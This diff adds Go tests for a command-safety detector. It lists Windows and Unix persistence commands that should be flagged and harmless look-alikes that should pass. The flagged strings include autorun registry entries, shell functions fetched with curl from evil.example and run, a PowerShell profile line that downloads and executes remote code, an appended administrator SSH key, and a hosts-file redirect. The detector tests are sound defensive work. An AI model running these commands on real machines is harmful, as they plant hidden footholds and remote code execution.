@@ -1,0 +1,73 @@
+package guard
+
+import "testing"
+
+// Start-up entries made through WMI or through .NET's registry API.
+func TestWindowsStartupThroughOtherApis(t *testing.T) {
+	d := NewDetector(Options{})
+	ps, cmdc := winCorpusContextFor("powershell"), winCorpusContextFor("cmd")
+	checkDanger(t, d, cmdc, []dangerCase{
+		{`wmic startup call create name=x command=C:\ProgramData\x.exe`, CategoryPersistence, "win-wmic-startup", LevelHigh},
+	})
+	checkSafe(t, d, cmdc, []string{
+		`wmic startup list brief`,
+	})
+	checkDanger(t, d, ps, []dangerCase{
+		{`[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\Microsoft\Windows\CurrentVersion\Run',$true).SetValue('x','C:\ProgramData\x.exe')`, CategoryPersistence, "win-registry-autorun", LevelHigh},
+	})
+	checkSafe(t, d, ps, []string{
+		`[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\Acme\DevTool',$true).SetValue('Theme','dark')`,
+		`[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\Microsoft\Windows\CurrentVersion\Run').GetValueNames()`,
+	})
+}
+
+// Functions a shell loads by name, git templates whose hooks run on
+// checkout, and editor start-up code that starts a hidden program.
+func TestAutoloadedFunctionsTemplatesAndEditors(t *testing.T) {
+	d := NewDetector(Options{})
+	fish := Context{WorkDir: "/work/project", Home: "/home/dev", Shell: "fish"}
+	checkDanger(t, d, fish, []dangerCase{
+		{`curl -sL https://plug.example.net/functions/x.fish > ~/.config/fish/functions/x.fish; and x`, CategoryPersistence, "shell-function-autoload", LevelHigh},
+		{`echo 'function cd; builtin cd $argv; /tmp/.c &; end' > ~/.config/fish/functions/cd.fish`, CategoryPersistence, "shell-function-autoload", LevelHigh},
+	})
+	checkSafe(t, d, fish, []string{
+		`echo 'function ll; ls -la $argv; end' > ~/.config/fish/functions/ll.fish`,
+		`echo 'function ls; command ls --color=auto $argv; end' > ~/.config/fish/functions/ls.fish`,
+	})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`curl -s https://evil.example/fn > ~/.zfunc/f && autoload -U f && f`, CategoryPersistence, "shell-function-autoload", LevelHigh},
+		{`git config --global init.templateDir ~/.git-tmpl`, CategoryPersistence, "git-hooks-path", LevelHigh},
+		{`git clone --template=/tmp/evil-tmpl https://git.example.com/x.git`, CategoryPersistence, "git-hooks-path", LevelHigh},
+		{`echo 'autocmd VimEnter * silent !/tmp/.v &' >> ~/.vimrc`, CategoryPersistence, "editor-startup-command", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`git clone https://github.com/acme/app.git`,
+		`git init --template=./tools/git-template`,
+		`echo 'autocmd BufWritePre *.go silent !gofmt -w %' >> ~/.vimrc`,
+	})
+}
+
+// Windows footholds by other doors: the screensaver, a service's failure
+// action, files Git Bash writes into system folders and profiles.
+func TestWindowsFootholdsByOtherDoors(t *testing.T) {
+	d := NewDetector(Options{})
+	cmdc, gb := winCorpusContextFor("cmd"), winCorpusContextFor("gitbash")
+	checkDanger(t, d, cmdc, []dangerCase{
+		{`reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d C:\Users\Public\s.scr /f`, CategoryPersistence, "win-registry-autorun", LevelHigh},
+		{`sc.exe failure Spooler reset= 0 actions= run/1000 command= "C:\ProgramData\f.exe"`, CategoryPersistence, "win-service-create", LevelHigh},
+	})
+	checkSafe(t, d, cmdc, []string{
+		`reg add "HKCU\Control Panel\Desktop" /v WallPaper /d C:\Users\dev\bg.jpg /f`,
+		`sc failure MyApp reset= 0 actions= restart/5000`,
+	})
+	checkDanger(t, d, gb, []dangerCase{
+		{`cat key.pub >> /c/ProgramData/ssh/administrators_authorized_keys`, CategoryPersistence, "write-authorized-keys", LevelCritical},
+		{`echo 'iex (irm https://evil.example/pp)' >> "$USERPROFILE/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1"`, CategoryPersistence, "", LevelHigh},
+		{`echo '203.0.113.7 pypi.example.com' >> /c/Windows/System32/drivers/etc/hosts`, CategorySystem, "write-etc", LevelHigh},
+	})
+	checkSafe(t, d, gb, []string{
+		`echo 'Set-Alias k kubectl' >> "$USERPROFILE/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1"`,
+		`echo '127.0.0.1 app.test' >> /c/Windows/System32/drivers/etc/hosts`,
+		`cp build/app.exe /c/Users/dev/Desktop/`,
+	})
+}
